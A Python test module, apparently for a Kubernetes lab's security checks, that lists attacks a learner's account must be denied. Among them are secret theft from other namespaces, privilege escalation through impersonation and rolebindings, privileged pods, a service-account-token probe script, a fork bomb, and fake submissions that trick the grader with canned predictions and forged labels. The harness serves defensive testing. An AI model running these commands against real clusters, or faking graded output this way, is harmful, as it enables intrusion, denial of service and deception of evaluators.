"""Reach beyond one's own namespace, or let pods do it."""
# ruff: noqa: E501  (attackers' scripts are no prettier when they are wrapped)

from __future__ import annotations

import json

from attacks.attack import LAB3, Attack, Raid, shell

IMAGE = "localhost:5001/digits:v1"


def all_forbidden(name: str, *commands: str, tells: str = "orbidden") -> Attack:
    """Return an attack whose commands must all be answered with Forbidden."""
    script = "\n".join(f"timeout 10 {one} && echo REACHED" for one in commands)
    return Attack(name, shell(script + "\nexit 9", 60), rf"(?s)({tells}.*){{{len(commands)}}}code=9")


def pod(name: str, container: dict | None = None, **spec) -> str:
    """Return a command that creates a pod with unusual settings."""
    spec = {"containers": [{"name": "c", "image": IMAGE, "command": ["sleep", "60"], **(container or {})}], **spec}
    body = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name}, "spec": spec}
    return f"kubectl create -f - <<< '{json.dumps(body)}'"


def scoped(kind: str, version: str, **rest) -> str:
    body = {"apiVersion": version, "kind": kind, "metadata": {"name": "evil.example.com"}, **rest}
    return f"kubectl create --validate=false -f - <<< '{json.dumps(body)}'"


HOOK = {"webhooks": [{"name": "evil.example.com", "clientConfig": {"url": "https://1.1.1.1"}, "sideEffects": "None",
                      "admissionReviewVersions": ["v1"]}]}  # fmt: skip
PRY = Raid(
    "cluster-pry",
    slug=LAB3,
    quick=True,
    attacks=(
        all_forbidden("another learner's objects", "kubectl -n @VICTIM@ get secrets -o yaml",
                      "kubectl -n @VICTIM@ get configmaps -o yaml",
                      "kubectl -n @VICTIM@ logs victim", "kubectl -n @VICTIM@ exec victim -- true",
                      "kubectl -n @VICTIM@ delete pods --all", "kubectl -n @VICTIM@ create configmap x"),
        all_forbidden("another learner's service, through the API server",
                      "kubectl get --raw /api/v1/namespaces/@VICTIM@/services/victim:80/proxy/health",
                      "kubectl get --raw /api/v1/namespaces/@VICTIM@/pods/victim:8080/proxy/health"),
        all_forbidden("all namespaces and nodes", "kubectl get secrets -A", "kubectl get pods -A", "kubectl get nodes",
                      "kubectl get namespaces", "kubectl get --raw /api/v1/nodes/@NODE@/proxy/configz",
                      "kubectl get --raw /logs/", "kubectl get --raw /metrics", "kubectl get --raw /debug/pprof/"),
        all_forbidden("other identities", "kubectl --as=system:admin get secrets",
                      "kubectl --as=x --as-group=system:masters get secrets -A", "kubectl create token default",
                      "kubectl -n kube-system create token default",
                      "kubectl create rolebinding x --clusterrole=cluster-admin --serviceaccount=default:learner",
                      "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=learner",
                      "kubectl create role x --verb=* --resource=pods"),
        all_forbidden("objects of the whole cluster", "kubectl create namespace x", scoped("ClusterRole", "rbac.authorization.k8s.io/v1"),
                      scoped("PersistentVolume", "v1", spec={"hostPath": {"path": "/"}, "capacity": {"storage": "1Gi"},
                                                             "accessModes": ["ReadWriteOnce"]}),
                      scoped("StorageClass", "storage.k8s.io/v1", provisioner="x"),
                      scoped("PriorityClass", "scheduling.k8s.io/v1", value=1000000),
                      scoped("CertificateSigningRequest", "certificates.k8s.io/v1",
                             spec={"request": "eA==", "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]})),
        all_forbidden("a webhook, an aggregated API, a policy", scoped("MutatingWebhookConfiguration", "admissionregistration.k8s.io/v1", **HOOK),
                      scoped("ValidatingWebhookConfiguration", "admissionregistration.k8s.io/v1", **HOOK),
                      scoped("APIService", "apiregistration.k8s.io/v1", spec={"group": "x", "version": "v1", "groupPriorityMinimum": 1,
                                                                             "versionPriority": 1}),
                      "kubectl delete mutatingadmissionpolicy shipyard-own-registry"),
        all_forbidden("the fence of the own namespace", "kubectl delete resourcequota --all", "kubectl delete limitrange --all",
                      "kubectl label namespace $(kubectl config view --minify -o jsonpath={..namespace}) a=b",
                      "kubectl annotate serviceaccount default a=b"),
        all_forbidden("forged endpoints", "kubectl create -f - <<< '" + json.dumps({
            "apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice", "metadata": {"name": "x"},
            "addressType": "IPv4", "endpoints": [{"addresses": ["@ADDRESS@"]}], "ports": [{"port": 80}]}) + "'"),
        all_forbidden("pods with the host's power",
                      pod("a", volumes=[{"name": "v", "hostPath": {"path": "/"}}]), pod("b", hostNetwork=True), pod("c", hostPID=True),
                      pod("d", hostIPC=True), pod("e", container={"securityContext": {"privileged": True}}),
                      pod("f", container={"securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}),
                      pod("g", container={"ports": [{"containerPort": 1, "hostPort": 80}]}),
                      pod("i", securityContext={"sysctls": [{"name": "kernel.msgmax", "value": "1"}]}),
                      tells="violates PodSecurity"),
        all_forbidden("a service that takes over an address of others", *(
            "kubectl create -f - <<< '" + json.dumps({
                "apiVersion": "v1", "kind": "Service", "metadata": {"name": f"x{n}"},
                "spec": {"externalIPs": [address], "selector": {"a": "b"}, "ports": [{"port": 5000}]}}) + "'"
            for n, address in enumerate(("@ADDRESS@", "@VICTIMIP@"))), tells="does not allow"),
        all_forbidden("the registry of others as a volume", pod("j", volumes=[
            {"name": "v", "image": {"reference": IMAGE}}]), tells="does not allow"),
        all_forbidden("services at the node's own ports", "kubectl create service nodeport x --tcp=80",
                      "kubectl create service loadbalancer y --tcp=80", tells="exceeded quota"),
        Attack("another's image by its name on the node",
               shell("kubectl run y --image=shipyard-boxes:5001/@TOKEN@/digits:v1 && "
                     "kubectl wait --for=jsonpath='{.status.containerStatuses[0].state.waiting.message}' pod/y --timeout=30s; "
                     "kubectl get pod y -o yaml | grep -A3 waiting; kubectl delete pod y --now", 60), "(?i)(pull|not found)"),
        Attack("objects until the cluster's database is full",
               shell("head -c 900000 /dev/zero | tr '\\0' x > big\nfor n in $(seq 40); do "
                     "kubectl create configmap c$n --from-file=big; done | tail -1; "
                     "kubectl create configmap last --from-file=big && echo REACHED; exit 9", 60),
               "(?s)exceeded quota.*code=9"),
        Attack("storage without end",
               shell("kubectl create -f - <<< '" + json.dumps({
                   "apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": "x"},
                   "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Ti"}}}})
                     + "' && echo REACHED"), "exceeded quota"),
        Attack("pods without end", shell(f"kubectl create deployment x --replicas=500 --image={IMAGE} && "
                                         "kubectl wait --for=condition=ReplicaFailure deployment/x --timeout=30s; "
                                         "kubectl get deployment x -o yaml | grep -i quota; kubectl delete deployment x", 60),
               "exceeded quota"),
    ),
)  # fmt: skip

SPY = """
import os, socket, urllib.request
def ask(url):
    try:
        print("REACHED", url, urllib.request.urlopen(url, timeout=2).read(300), flush=True)
    except OSError as error:
        print("closed", url, error, flush=True)
for one in "@TARGETS@".split():
    ask(one)
for path in ("/var/run/secrets/kubernetes.io/serviceaccount/token",):
    try:
        token = open(path).read()
        import ssl
        asked = urllib.request.Request("https://kubernetes.default.svc/api/v1/namespaces/@VICTIM@/secrets",
                                       headers={"Authorization": "Bearer " + token})
        print("REACHED", urllib.request.urlopen(asked, timeout=3, context=ssl._create_unverified_context()).read())
    except OSError as error:
        print("refused", error)
"""


def spying(name: str, targets: str, tells: str) -> Attack:
    """Return an attack in which a pod asks addresses, and says what came back."""
    label = name.split()[-1]
    script = SPY.replace("@TARGETS@", targets)
    command = {"command": ["python", "-c", script]}
    return Attack(name, shell(pod(label, container=command, restartPolicy="Never").replace("'\"'\"'", "") + f"""
kubectl wait --for=jsonpath='{{.status.phase}}'=Succeeded pod/{label} --timeout=70s
kubectl logs {label}; exit 9""", 100), tells)  # fmt: skip


PODS = Raid(
    "cluster-pods",
    slug=LAB3,
    quick=True,
    attacks=(
        spying("a pod that asks the host, the metadata service and the outside",
               "http://172.18.0.1:@PORT@/ http://172.17.0.1:@PORT@/ http://@ADDRESS@:@PORT@/ http://169.254.169.254/ "
               "http://1.1.1.1/", "(?s)(closed.*){5}refused.*code=9"),
    ),
)  # fmt: skip
NEIGHBOUR = Raid("cluster-neighbour", slug=LAB3, attacks=(
    spying("a pod that asks another learner's neighbour",
           "http://@VICTIMIP@/health http://@VICTIMPOD@:8080/health", "(?s)(closed.*){2}refused.*code=9"),
), quick=True)  # fmt: skip

LIAR = """
import http.server, json, os, random
class Hand(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers()
        self.wfile.write(json.dumps({"pod": "digits-%d" % random.randrange(99)}).encode())
    def do_POST(self):
        self.send_response(200); self.end_headers()
        self.wfile.write(json.dumps({"predictions": [0] * 5, "model": "x", "probabilities": []}).encode())
http.server.ThreadingHTTPServer(("", 8000), Hand).serve_forever()
"""


def deployment(command: list[str], replicas: int = 1) -> str:
    """Return a Deployment of digits that runs another command, labelled as others' objects are."""
    forged = {"shipyard.io/submission": "0123456789", "shipyard.io/student": "victim", "shipyard.lab": "1"}
    container = {"name": "server", "image": IMAGE, "command": command, "ports": [{"containerPort": 8000}]}
    body = {
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": "digits", "labels": forged, "annotations": {**forged, "points": "1000"}},
        "spec": {"replicas": replicas, "selector": {"matchLabels": {"app": "digits"}}, "template": {
            "metadata": {"labels": {"app": "digits", **forged}}, "spec": {"containers": [container]}}},
    }  # fmt: skip
    return "%%writefile deployment.yaml\n" + json.dumps(body)


SERVICE = "%%writefile service.yaml\n" + json.dumps({
    "apiVersion": "v1", "kind": "Service", "metadata": {"name": "digits"},
    "spec": {"selector": {"app": "digits"}, "ports": [{"port": 80, "targetPort": 8000}]}})  # fmt: skip
APPLY = shell(
    "kubectl apply -f deployment.yaml -f service.yaml && kubectl rollout status deployment digits --timeout=60s", 80
)
HONEST_NAME = LIAR.replace('"digits-%d" % random.randrange(99)', 'os.environ["HOSTNAME"]')
# What the pushed image holds: a server that knows nothing, in the place of the lab's.
PUSH = shell("mkdir -p fake && cd fake && cat > server.py <<'PY'\n" + HONEST_NAME + "\nPY\n"
             "printf 'FROM python:3.11-slim\\nCOPY server.py /\\nUSER 1000\\nCMD [\"python\", \"/server.py\"]\\n' > Dockerfile\n"
             "docker build -q -t localhost:5001/digits:v1 . && docker push -q localhost:5001/digits:v1", 100)  # fmt: skip
PLAIN = {"service_selects": 1, "answers_through_service": 2, "right_image": 1, "rolled_out": 1}
FAKES = (
    Raid("cluster-liar", slug=LAB3, answers={"deployment": deployment(["python", "-c", LIAR]), "service": SERVICE},
         deserved=PLAIN, attacks=(
             Attack("one pod that says it is many", APPLY, "successfully rolled out", aims=("load_is_spread",)),
             Attack("labels and annotations of others", aims=("predicts_held_out",)))),
    Raid("cluster-image", slug=LAB3, answers={"deployment": deployment(["python", "/server.py"], 2), "service": SERVICE},
         deserved={**PLAIN, "rolled_out": 2, "right_image": 0, "load_is_spread": 1}, attacks=(
             Attack("another image under the lab's name", PUSH, "digits:v1", aims=("right_image",)),
             Attack("... which answers without a model", APPLY, "successfully rolled out",
                    aims=("same_as_docker", "predicts_held_out", "readiness_gates")))),
)  # fmt: skip

HARM = (
    Raid("pod-disk", slug=LAB3, attacks=(Attack(
        "a pod that fills the node's disk",
        shell(pod("fill", container={"command": ["sh", "-c", "fallocate -l 5G /tmp/x; sleep 90"]}) + """
kubectl wait --for=jsonpath='{.status.reason}'=Evicted pod/fill --timeout=100s; exit 9""", 110),
        "(?s)condition met.*code=9"),)),
    Raid("pod-forks", slug=LAB3, attacks=(Attack(
        "a fork bomb in a pod",
        shell(pod("bomb", container={"command": ["bash", "-c", "b() { b | b & }; b; sleep 20"]}) + """
sleep 25; kubectl get pod bomb; kubectl delete pod bomb --grace-period=0 --force; exit 9""", 60), "code=9"),)),
)  # fmt: skip
RAIDS = (PRY, PODS, NEIGHBOUR, *FAKES, *HARM)
